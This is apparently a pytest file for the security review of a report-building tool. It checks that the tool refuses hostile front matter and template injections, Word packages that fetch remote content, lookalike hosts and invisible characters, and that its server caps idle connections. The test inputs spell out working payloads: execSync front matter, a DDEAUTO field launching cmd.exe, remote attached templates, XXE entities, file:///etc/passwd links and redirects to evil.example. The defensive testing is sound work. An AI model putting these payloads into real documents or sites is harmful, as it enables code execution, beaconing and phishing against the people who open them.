"""The findings of security review 5, each with its neighbours (review5/security-review-5.md).

H1 front matter a static-site generator runs; M1 and M2 Word briefs that load remote content
when opened; M3 bidi and invisible characters in translation overlays and catalogs; M4 hosts a
browser reads differently (ideographic full stops); L1 idle connections to ``serve``; L2 a
manifest whose fields have the wrong type.
"""

from __future__ import annotations

import gzip
import html
import io
import re
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from aftercare_report import docx_inert, markdown
from aftercare_report.cli import cli

ROOT = Path(__file__).resolve().parent.parent
REFERENCE = ROOT / "templates" / "reference.docx"

# --- H1: the front matter is the tool's, never a template's ------------------------------------

TOOL_BLOCK = '---\ntitle: "Aftercare in Testland"\ncountry:\n  - "A"\n  - "B"\n---\n\n# T\n'

FRONT_MATTER_ATTACKS = {
    "eleventy javascript": '---js\nrequire("child_process").execSync("touch /tmp/x");\n---\n# T\n',
    "eleventy javascript, long": "---javascript\nmodule.exports = {};\n---\n# T\n",
    "eleventy json": '---json\n{"permalink": "/"}\n---\n# T\n',
    "yaml with a space": '--- \npermalink: "/"\n---\n# T\n',
    "hugo toml": '+++\naliases = ["/", "/login/"]\n+++\n# T\n',
    "hugo json": '{\n  "aliases": ["/"]\n}\n\n# T\n',
    "eleventy ;;;": ';;;\n{"permalink": "/"}\n;;;\n# T\n',
    "after a byte order mark": "\ufeff---js\nmodule.exports = {};\n---\n# T\n",
    "after blank lines": "\n\n---js\nmodule.exports = {};\n---\n# T\n",
    "crlf": '---\r\npermalink: "/"\r\n---\r\n# T\n',
    "permalink": '---\ntitle: "x"\npermalink: "{{ 7*7 }}"\n---\n# T\n',
    "eleventy computed": '---\neleventyComputed:\n  title: "{{ 7*7 }}"\n---\n# T\n',
    "template syntax in a known key": '---\ntitle: "{{ 7*7 }}"\n---\n# T\n',
    "liquid tag in a known key": '---\nsummary: "{% include x %}"\n---\n# T\n',
    "ejs in a known key": '---\nsummary: "<%= process.env %>"\n---\n# T\n',
    "redirect": '---\ntitle: "x"\nredirect_to: "https://evil.example/login"\n---\n# T\n',
    "unquoted value": "---\ntitle: x\n---\n# T\n",
    "yaml tag": '---\ntitle: !!python/object "x"\n---\n# T\n',
    "anchor and alias": '---\ntitle: &a "x"\nsummary: *a\n---\n# T\n',
    "a key twice": '---\ntitle: "x"\ntitle: "y"\n---\n# T\n',
    "a list of mappings": '---\ncountry:\n  - permalink: "/"\n---\n# T\n',
    "never closed": '---\ntitle: "x"\n# T\n',
    "second yaml block": TOOL_BLOCK.replace("# T", '---\npermalink: "/"\n---\n# T'),
    "second block, hugo": TOOL_BLOCK.replace("# T", '+++\naliases = ["/"]\n+++\n# T'),
    "second block, javascript": TOOL_BLOCK.replace("# T", "---js\nmodule.exports = {};\n---"),
}


@pytest.mark.parametrize("page", FRONT_MATTER_ATTACKS.values(), ids=FRONT_MATTER_ATTACKS.keys())
def test_front_matter_other_than_the_tools_is_refused(page: str) -> None:
    assert markdown.problems(page), page


def test_the_front_matter_the_tool_writes_passes_and_keeps_template_syntax_out() -> None:
    assert markdown.problems(TOOL_BLOCK) == []
    hostile = '{{ 7*7 }} {% include x %} <%= x %> ${x} "\u2028'
    quoted = markdown.yaml_string(hostile)
    assert not re.search(r"[{}<>]", quoted)  # no template language finds its syntax
    value = yaml.safe_load(f"title: {quoted}")["title"]
    # The reader gets it back, as HTML, its straight quote as a typographic one (review 10b).
    assert html.unescape(value) == hostile.replace('"', "\u201c")  # after a space: opening
    assert not re.search(r"[{}<>\"]", value)
    assert markdown.problems(f"---\ntitle: {quoted}\n---\n\n# T\n") == []


def _md_project(tmp_path: Path, template: str) -> list[str]:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "country.md").write_text(template)
    args = ["build", "thailand", "--format", "md", "--templates", str(folder)]
    return [*args, "--out", str(tmp_path / "out")]


@pytest.mark.parametrize(
    "template",
    [
        '---js\nrequire("child_process").execSync("touch /tmp/pwned");\n---\n# Thailand\n',
        "+++\naliases = ['/']\n+++\n# Thailand\n",
        '---js\nmodule.exports = {};\n---\n{% extends "default:country.md" %}',
    ],
    ids=["javascript", "toml", "before extends"],
)
@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_template_cannot_write_front_matter(tmp_path: Path, template: str) -> None:
    result = CliRunner().invoke(cli, _md_project(tmp_path, template))
    assert result.exit_code == 1, result.output
    assert "front matter" in result.stderr
    assert not (tmp_path / "out" / "thailand.md").exists()


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_template_overriding_the_old_front_matter_block_is_told(tmp_path: Path) -> None:
    template = (
        '{% extends "default:country.md" %}{% block front_matter_extra %}'
        "redirect_to: https://evil.example/login{% endblock %}"
    )
    result = CliRunner().invoke(cli, _md_project(tmp_path, template))
    assert result.exit_code == 1
    assert "block 'front_matter_extra' is not defined" in result.stderr


# --- M1 and M2: a Word brief loads nothing when opened ----------------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rels(*relationships: tuple[str, str, str], mode: str = "External") -> bytes:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for rid, kind, target in relationships
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}'
        "</Relationships>"
    ).encode()


def _internal_rels(*relationships: tuple[str, str, str]) -> bytes:
    return _rels(*relationships, mode="Internal")


def _in_footer(xml: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
            b"</w:ftr>", xml.encode() + b"</w:ftr>"
        )

    return change


def _add(name: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = data

    return change


def _field(*pieces: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _settings_prefixed(parts: dict[str, bytes]) -> None:
    settings = parts["word/settings.xml"].replace(
        b"<w:settings ", f'<w:settings xmlns:x="{W_NS}" '.encode(), 1
    )
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings [^>]*>)", rb'\1<x:attachedTemplate r:id="rIdTpl"/>', settings, count=1
    )


_BLIP = (  # the review's picture, as LibreOffice draws it
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100000" cy="100000"/>'
    '<wp:docPr id="99" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/'
    '2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/'
    'picture"><pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdPix"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="100000" cy="100000"/>'
    '</a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)
_NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/>'
    '</w:r><w:r><w:instrText> QUOTE "INCLUDEPICTURE" </w:instrText></w:r><w:r><w:fldChar '
    'w:fldCharType="end"/></w:r><w:r><w:instrText> "http://127.0.0.1:8765/n.png" </w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_GLOSSARY_FIELD = _field(' INCLUDEPICTURE "http://x/g.png" ')
_FOOTNOTES = (
    f'<?xml version="1.0"?><w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p>'
    '<w:fldSimple w:instr=" includetext &quot;http://127.0.0.1:8765/t.docx&quot; "/>'
    "</w:p></w:footnote></w:footnotes>"
).encode()


def _utf16_footer(parts: dict[str, bytes]) -> None:
    text = (
        parts["word/footer1.xml"]
        .decode("utf-8")
        .replace(
            "</w:ftr>", _field(' INCLUDEPICTURE "https://evil.example/sep.png" \\d ') + "</w:ftr>"
        )
    )
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    parts["word/footer1.xml"] = text.encode("utf-16")


DOCX_ATTACKS: dict[str, list[Callable[[dict[str, bytes]], None]]] = {
    "external image (review M1)": [
        _in_footer(_BLIP),
        _add("word/_rels/footer1.xml.rels", _rels(("rIdPix", "image", "http://127.0.0.1/p.png"))),
    ],
    # Review 6 M1: the relationship claims to be a hyperlink, but a picture uses it.
    "external picture behind a hyperlink relationship (review 6)": [
        _in_footer(_BLIP),
        _add(
            "word/_rels/footer1.xml.rels", _rels(("rIdPix", "hyperlink", "http://127.0.0.1/p.png"))
        ),
    ],
    "VML picture behind a hyperlink relationship": [
        _in_footer(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            'r:id="rIdPix"/></v:shape></w:pict></w:r></w:p>'
        ),
        _add(
            "word/_rels/footer1.xml.rels", _rels(("rIdPix", "hyperlink", "http://127.0.0.1/p.png"))
        ),
    ],
    # Review 9 L3: VML names a relationship in the Office namespace's o:relid as well.
    "VML picture behind o:relid": [
        _in_footer(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
            'xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rIdPix"/>'
            "</v:shape></w:pict></w:r></w:p>"
        ),
        _add(
            "word/_rels/footer1.xml.rels", _rels(("rIdPix", "hyperlink", "http://127.0.0.1/p.png"))
        ),
    ],
    # Review 10b, L4.2 and L4.3: what the check could not read, and links it did not judge.
    "gzip-compressed SVG (svgz)": [
        _add(
            "word/media/i.svg",
            gzip.compress(
                b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1/s.png"/>'
                b"</svg>"
            ),
        )
    ],
    "SVG style that imports": [
        _add(
            "word/media/s.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//127.0.0.1/x.css";'
            b"</style></svg>",
        )
    ],
    "SVG style with an escaped url()": [
        _add(
            "word/media/e.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: \\75 rl(x) }'
            b"</style></svg>",
        )
    ],
    "hyperlink with a user name before the host": [
        _add(
            "word/_rels/footer1.xml.rels",
            _rels(("rIdH", "hyperlink", "https://www.un.org@127.0.0.1:8765/phish")),
        )
    ],
    "mail link that attaches a file": [
        _add(
            "word/_rels/footer1.xml.rels",
            _rels(("rIdH", "hyperlink", "mailto:a@example.org?attach=/etc/passwd")),
        )
    ],
    # Review 11b, M1: a header in EBCDIC, which LibreOffice reads (and fetches from) unchecked.
    "a header in EBCDIC": [
        _add(
            "word/header2.xml",
            (
                '<?xml version="1.0" encoding="IBM037"?>'
                f'<w:hdr xmlns:w="{W_NS}"><w:p><w:fldSimple w:instr=" INCLUDEPICTURE '
                '&quot;http://127.0.0.1:8765/e.png&quot; "/></w:p></w:hdr>'
            ).encode("cp037"),
        ),
        _add("word/_rels/document.xml.rels", _internal_rels(("rIdE", "header", "header2.xml"))),
    ],
    "an image relationship to a part that is no image": [
        _add("word/media/x.png", "<svg/>".encode("cp037")),
        _add("word/_rels/document.xml.rels", _internal_rels(("rIdX", "image", "media/x.png"))),
    ],
    # Review 13b, F1: a safe name in the branch no reader takes, the field in the other.
    "a field's instruction split over alternative content": [
        _in_footer(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><mc:AlternateContent '
            'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
            'xmlns:zz="urn:example:not-understood"><mc:Choice Requires="zz"><w:r><w:instrText>'
            " PAGE </w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>"
            'INCLUDEPICTURE "http://127.0.0.1:8765/p.png" \\d </w:instrText></w:r>'
            '</mc:Fallback></mc:AlternateContent><w:r><w:fldChar w:fldCharType="separate"/>'
            '</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    ],
    "a safe field name in deleted text": [
        _in_footer(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del w:id="1" w:author="a">'
            "<w:r><w:delInstrText> PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>"
            '\\* MERGEFORMAT INCLUDEPICTURE "http://127.0.0.1/p.png"</w:instrText></w:r><w:r>'
            '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    ],
    # Review 13b, F2: an Office add-in that Word shows in a task pane on opening.
    "an Office add-in task pane": [
        _add(
            "word/webextensions/taskpanes.xml",
            b'<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/'
            b'taskpanes/2010/11"><wetp:taskpane visibility="1"/></wetp:taskpanes>',
        )
    ],
    "a macro project": [_add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")],
    # Review 7 M2: a part in UTF-16, which readers parse and python-docx copies unread.
    "a UTF-16 footer with INCLUDEPICTURE (review 7)": [_utf16_footer],
    "x:-prefixed attached template (review M2)": [
        _settings_prefixed,
        _add(
            "word/_rels/settings.xml.rels",
            _rels(("rIdTpl", "attachedTemplate", "http://127.0.0.1/evil.dotm")),
        ),
    ],
    "attached template, no relationship": [_settings_prefixed],
    "INCLUDEPICTURE split over two runs (review M2)": [
        _in_footer(_field(" INCLUDE", 'PICTURE "http://127.0.0.1:8765/f.png" \\d '))
    ],
    "INCLUDEPICTURE split in three": [_in_footer(_field(" INC", "LUDEPIC", 'TURE "http://x/p"'))],
    "DDEAUTO": [_in_footer(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
    "LINK": [_in_footer(_field(' LINK Excel.Sheet.8 "http://x/a.xls" "" \\a '))],
    "IMPORT": [_in_footer(_field(' IMPORT "http://x/p.wmf" '))],
    "DATABASE": [_in_footer(_field(' DATABASE \\d "\\\\\\\\host\\\\db.mdb" '))],
    "MACROBUTTON": [_in_footer(_field(" MACROBUTTON AutoOpen click "))],
    "a field name made by a nested field": [_in_footer(_NESTED)],
    "lower-case fldSimple in the footnotes": [_add("word/footnotes.xml", _FOOTNOTES)],
    "INCLUDEPICTURE in the glossary": [
        _add(
            "word/glossary/document.xml",
            f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts>{_GLOSSARY_FIELD}</w:docParts>'
            "</w:glossaryDocument>".encode(),
        )
    ],
    "external font": [
        _add(
            "word/_rels/fontTable.xml.rels",
            _rels(("rIdF", "font", "http://127.0.0.1/f.odttf")),
        )
    ],
    "external frame": [
        _add("word/_rels/webSettings.xml.rels", _rels(("rIdFr", "frame", "http://x/f.html")))
    ],
    "external OLE object": [
        _add("word/_rels/footer1.xml.rels", _rels(("rIdO", "oleObject", "http://x/o.bin")))
    ],
    "external sub-document": [
        _add("word/_rels/document.xml.rels", _rels(("rIdS", "subDocument", "\\\\host\\s.docx")))
    ],
    "hyperlink to a file": [
        _add("word/_rels/footer1.xml.rels", _rels(("rIdH", "hyperlink", "file:///etc/passwd")))
    ],
    "hyperlink to a share": [
        _add("word/_rels/footer1.xml.rels", _rels(("rIdH", "hyperlink", "\\\\host\\share")))
    ],
    "lower-case target mode": [
        _add(
            "word/_rels/footer1.xml.rels",
            _rels(("rIdP", "image", "http://x/p.png")).replace(b'"External"', b'"external"'),
        )
    ],
    "alternative format chunk": [_in_footer('<w:altChunk r:id="rIdA"/>')],
    "VML image with an address": [
        _in_footer(
            '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><v:imagedata '
            'o:href="http://127.0.0.1/v.png"/></v:shape></w:pict>'
        )
    ],
    # Review 15b, L2: forms a browser reads as another host, known to the HTML check.
    **{
        f"VML image at {address}": [
            _in_footer(
                '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
                'xmlns:o="urn:schemas-microsoft-com:office:office"><v:imagedata '
                f'o:href="{address}"/></v:shape></w:pict>'
            )
        ]
        for address in ("http:\\\\127.0.0.1/v.png", "http:127.0.0.1/v.png", "/\\127.0.0.1/v.png")
    },
    "document type with an entity": [
        _add(
            "word/comments.xml",
            b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "http://x/e">]><c>&e;</c>',
        )
    ],
}


def _package(changes: list[Callable[[dict[str, bytes]], None]]) -> bytes:
    with zipfile.ZipFile(REFERENCE) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    for change in changes:
        change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("changes", DOCX_ATTACKS.values(), ids=DOCX_ATTACKS.keys())
def test_a_word_package_that_loads_anything_is_refused(
    changes: list[Callable[[dict[str, bytes]], None]],
) -> None:
    assert docx_inert.problems(_package(changes))


def test_images_and_printer_settings_pass_as_bytes_of_their_own() -> None:
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452")
    fine = [
        _add("word/media/p.png", png),
        _add("word/printerSettings/printerSettings1.bin", b"\x00\x01 DEVMODE \xff"),
        _add(
            "word/_rels/document.xml.rels",
            _internal_rels(
                ("rIdP", "image", "media/p.png"),
                ("rIdS", "printerSettings", "printerSettings/printerSettings1.bin"),
            ),
        ),
    ]
    assert docx_inert.problems(_package(fine)) == []


def test_page_numbers_and_web_links_pass() -> None:
    link = (
        '<w:p><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rIdH"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>'
    )
    fine = [
        _in_footer('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>' + _field(" NUM", "PAGES ")),
        _in_footer(link),  # a link to the web, used by a link: loads nothing until followed
        _add("word/_rels/footer1.xml.rels", _rels(("rIdH", "hyperlink", "https://e.x/a?b=1"))),
    ]
    assert docx_inert.problems(_package(fine)) == []


@pytest.mark.slow  # a Word build, about 1.5 s
def test_a_reference_document_with_the_reviews_payload_stops_the_build(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    changes = [
        *DOCX_ATTACKS["external image (review M1)"],
        *DOCX_ATTACKS["x:-prefixed attached template (review M2)"],
        *DOCX_ATTACKS["INCLUDEPICTURE split over two runs (review M2)"],
    ]
    (folder / "reference.docx").write_bytes(_package(changes))
    args = ["build", "thailand", "--format", "docx", "--templates", str(folder)]
    result = CliRunner().invoke(cli, [*args, "--out", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    for part in ("footer1.xml.rels", "settings.xml:", "INCLUDEPICTURE"):
        assert part in result.stderr
    assert not (tmp_path / "out" / "thailand.docx").exists()


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_picture_behind_a_hyperlink_relationship_stops_the_build(tmp_path: Path) -> None:
    # Review 6 M1: the relationship passes as a link to the web; the picture using it would be
    # fetched by LibreOffice on opening.
    folder = tmp_path / "templates"
    folder.mkdir()
    attack = DOCX_ATTACKS["external picture behind a hyperlink relationship (review 6)"]
    (folder / "reference.docx").write_bytes(_package(attack))
    args = ["build", "thailand", "--format", "docx", "--templates", str(folder)]
    result = CliRunner().invoke(cli, [*args, "--out", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    assert "word/footer1.xml: <blip> uses the external relationship 'rIdPix'" in result.stderr
    assert not (tmp_path / "out" / "thailand.docx").exists()


@pytest.mark.slow
def test_libreoffice_opening_a_word_brief_makes_no_request(tmp_path: Path) -> None:
    """The built brief makes no request; the same brief with the review's beacon does."""
    import http.server
    import shutil
    import subprocess
    import threading

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.fail(
            "LibreOffice is missing (Debian libreoffice-writer-nogui): run scripts/bootstrap"
        )
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    result = CliRunner().invoke(
        cli, ["build", "thailand", "--format", "docx", "--out", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    built = (tmp_path / "thailand.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(built)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    _in_footer(_BLIP)(parts)
    beacon = f"http://127.0.0.1:{port}/beacon.png"
    _add("word/_rels/footer1.xml.rels", _rels(("rIdPix", "image", beacon)))(parts)
    with zipfile.ZipFile(tmp_path / "control.docx", "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    assert docx_inert.problems((tmp_path / "control.docx").read_bytes())
    try:
        for stem in ("thailand", "control"):
            profile = (tmp_path / "lo-profile").as_uri()
            command = [soffice, f"-env:UserInstallation={profile}", "--headless"]
            command += ["--convert-to", "pdf", "--outdir", str(tmp_path / stem)]
            done = subprocess.run(
                [*command, str(tmp_path / f"{stem}.docx")], capture_output=True, timeout=300
            )
            assert done.returncode == 0, done.stderr
            assert list((tmp_path / stem).glob("*.pdf")), done.stdout
            if stem == "thailand":
                assert requests == [], requests  # the published brief fetches nothing
        assert "/beacon.png" in requests  # the check above would have seen one
    finally:
        server.shutdown()


# --- M3: translated text goes through the profile's check -------------------------------------

THAILAND = ROOT / "profiles" / "thailand.yaml"
SUMMARY_FR = (
    "La loi de 2008 ; depuis 2022, 45 jours de réflexion (TIP 2022), mais les victimes restent "
    "au plus \u202e15\u202c jours en refuge (TIP 2023) ; TIP 2023 : 444 victimes en 2022 ; "
    "TIP 2025, TIP 2024 ; rien à 12 mois."
)


def _french_project(tmp_path: Path) -> Path:
    (tmp_path / "profiles").mkdir()
    (tmp_path / "profiles" / "thailand.yaml").write_bytes(THAILAND.read_bytes())
    (tmp_path / "aftercare-report.toml").write_text(
        '[project]\nprofiles = ["profiles"]\nout = "out"\nlanguage = "fr"\n'
    )
    return tmp_path


def test_a_bidi_override_in_a_profile_translation_fails_validate_strict(tmp_path: Path) -> None:
    project = _french_project(tmp_path)
    overlay = project / "profiles" / "thailand.fr.yaml"
    overlay.write_text(f"language: fr\nsummary: {yaml.safe_dump(SUMMARY_FR)}", encoding="utf-8")
    config = ["--config", str(project / "aftercare-report.toml")]
    result = CliRunner().invoke(cli, [*config, "validate", "--strict"])
    assert result.exit_code == 1, result.output
    assert "thailand.fr.yaml:2" in result.output and "RIGHT-TO-LEFT OVERRIDE" in result.output
    plain = SUMMARY_FR.replace("\u202e", "").replace("\u202c", "")
    overlay.write_text(f"language: fr\nsummary: {yaml.safe_dump(plain)}", encoding="utf-8")
    assert CliRunner().invoke(cli, [*config, "validate", "--strict"]).exit_code == 0


def test_catalog_and_framework_overlay_text_is_checked_as_profile_text(tmp_path: Path) -> None:
    from aftercare_report import translations

    folder = tmp_path / "translations"
    folder.mkdir()
    (folder / "fr.po").write_text(
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
        'msgid "survivor"\nmsgstr "personne\u200b survivante"\n\n'
        'msgid "victims"\nmsgstr "victimes"\n',
        encoding="utf-8",
    )
    (folder / "framework.fr.yaml").write_text('name: "Cadre \u202edes 51\u202c"\n')
    found = translations.text_warnings("fr", folder, None)
    assert [(Path(f.path).name, f.line, f.code) for f in found] == [
        ("fr.po", 5, "invisible-character"),
        ("framework.fr.yaml", 1, "bidi-control"),
    ]
    assert translations.text_warnings("en", folder, None) == []  # not a language in play


# --- M4: the host a browser goes to, after IDNA mapping ---------------------------------------

MAPPED_HOSTS = {
    "https://www.jica.go.jp\u3002evil.example/english/": "www.jica.go.jp.evil.example",
    "https://www.state.gov\uff0eevil.example/": "www.state.gov.evil.example",
    "https://www.state.gov\uff61evil.example/": "www.state.gov.evil.example",
    "https://\uff53\uff54\uff41\uff54\uff45.gov/reports/": "state.gov",  # fullwidth letters
    "https://\u24e2tate.gov/": "state.gov",  # a circled letter
    "https://sta\u00adte.gov/": "state.gov",  # a soft hyphen
    "https://www.state.gov%E3%80%82evil.example/": "www.state.gov.evil.example",
}


@pytest.mark.parametrize("url", MAPPED_HOSTS)
def test_a_host_a_browser_maps_is_read_as_mapped_and_refused(url: str) -> None:
    from aftercare_report import weburl

    assert weburl.host(url) == MAPPED_HOSTS[url]
    assert weburl.problem(url)


def test_hosts_that_read_as_written_pass_and_unreadable_ones_do_not() -> None:
    from aftercare_report import weburl

    for url in ("https://www.state.gov/x", "https://B\u00fccher.de/", "https://xn--bcher-kva.de/"):
        assert weburl.problem(url) is None, url
    assert weburl.problem("https://evil\u2024com/")  # no browser goes there


def test_validate_refuses_the_reviews_ideographic_full_stop(tmp_path: Path) -> None:
    profile = tmp_path / "thailand.yaml"
    text = THAILAND.read_text(encoding="utf-8")
    real = "url: https://www.jica.go.jp/english/"
    assert real in text
    profile.write_text(text.replace(real, real.replace("jp/", "jp\u3002evil.example/"), 1))
    result = CliRunner().invoke(cli, ["validate", str(profile)])
    assert result.exit_code == 1
    assert "goes to www.jica.go.jp.evil.example" in result.output


# --- L2: a manifest with fields of the wrong type is ignored, never an internal error ----------

WRONG_VALUES = [5, -1, 1.5, True, None, "é" * 64, "\ud800", "x", [], {}, ["x"], {"a": 1}, 10**30]


@pytest.fixture(scope="module")
def built_manifest(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, bytes]:
    out = tmp_path_factory.mktemp("manifest")
    args = ["build", "thailand", "--format", "json,md", "--out", str(out)]
    assert CliRunner().invoke(cli, args).exit_code == 0
    return out, (out / "manifest.json").read_bytes()


def _places(data: object, path: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
    """Every key path of the parsed manifest, containers included."""
    found = [path] if path else []
    if isinstance(data, dict):
        for key, value in data.items():
            found += _places(value, (*path, key))
    return found


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_manifest_fields_of_every_wrong_type_are_ignored_with_one_warning(
    built_manifest: tuple[Path, bytes], tmp_path: Path
) -> None:
    import json
    import warnings

    from aftercare_report import manifest

    source, original = built_manifest
    parsed = json.loads(original)
    places = [p for p in _places(parsed) if p[0] in ("outputs", "builds")]
    assert len(places) > 15
    (tmp_path / "thailand.json").write_bytes((source / "thailand.json").read_bytes())
    for place in places:
        for value in WRONG_VALUES:
            data = json.loads(original)
            holder = data
            for key in place[:-1]:
                holder = holder[key]
            holder[place[-1]] = value
            (tmp_path / "manifest.json").write_text(json.dumps(data))
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                entries = manifest.read(tmp_path)
                builds = manifest.read_builds(tmp_path)
                for digest in builds:
                    manifest.up_to_date(tmp_path, digest)
                for name, entry in entries.items():
                    manifest.reusable(tmp_path, name, entry, entry.input)
            ignored = [w for w in caught if "was ignored" in str(w.message)]
            assert len(ignored) <= 2, (place, value)  # once for entries, once for builds at most
            for entry in entries.values():
                assert isinstance(entry.seal, str) and entry.seal.isascii(), (place, value)
                assert isinstance(entry.size, int) and isinstance(entry.input, str)


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_manifest_with_a_numeric_seal_is_rebuilt_with_one_warning(tmp_path: Path) -> None:
    import json

    out = tmp_path / "out"
    args = ["build", "thailand", "--format", "json", "--out", str(out)]
    assert CliRunner().invoke(cli, args).exit_code == 0
    data = json.loads((out / "manifest.json").read_text())
    data["outputs"]["thailand.json"]["seal"] = 5  # the review's L2
    (out / "manifest.json").write_text(json.dumps(data))
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert result.output.count("was ignored") == 1
    assert json.loads((out / "manifest.json").read_text())["outputs"]["thailand.json"]["seal"]
    assert CliRunner().invoke(cli, args).output.count("was ignored") == 0


# --- L1: serve bounds its connections and closes idle ones ------------------------------------


def test_serve_caps_connections_and_closes_idle_ones() -> None:
    import socket
    import threading
    import time
    import types

    from aftercare_report import serve

    class Server(serve._Server):
        max_connections = 4

    handler = type(
        "Handler",
        (serve._Handler,),
        {
            "preview": types.SimpleNamespace(languages=(), error=None),
            "hosts": frozenset({"localhost"}),
            "timeout": 0.3,
        },
    )
    server = Server(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    address = server.server_address[:2]
    before = threading.active_count()
    idle = []
    try:
        for _ in range(40):  # headers never finished, as in the review's slow.py
            connection = socket.create_connection(address)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            idle.append(connection)
        time.sleep(0.1)
        assert threading.active_count() <= before + 4  # one thread per slot, no more
        late = socket.create_connection(address)
        late.sendall(b"GET /__reload.js HTTP/1.0\r\nHost: localhost\r\n\r\n")
        assert late.recv(100).startswith(b"HTTP/1.0 503")  # over the cap: told, not queued
        late.close()
        for connection in idle[:4]:  # the idle ones time out and free their slots
            connection.settimeout(2)
            assert connection.recv(100) == b""  # closed by the server after 0.3 s
        fresh = socket.create_connection(address)
